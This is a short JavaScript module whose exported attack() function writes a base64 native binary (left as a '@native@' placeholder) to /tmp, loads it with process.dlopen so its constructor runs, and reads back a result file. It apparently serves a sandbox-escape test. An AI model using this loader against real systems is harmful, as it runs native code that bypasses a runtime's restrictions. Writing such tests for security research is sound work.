import { readFileSync, writeFileSync } from "node:fs";

export function attack() {
  writeFileSync("/tmp/native.node", Buffer.from("@native@", "base64"));
  try {
    process.dlopen({ exports: {} }, "/tmp/native.node");
  } catch {
    // It is no add-on, but by then its constructor has run.
  }
  return readFileSync("/tmp/found", "utf8").trim().replaceAll("\n", " ");
}
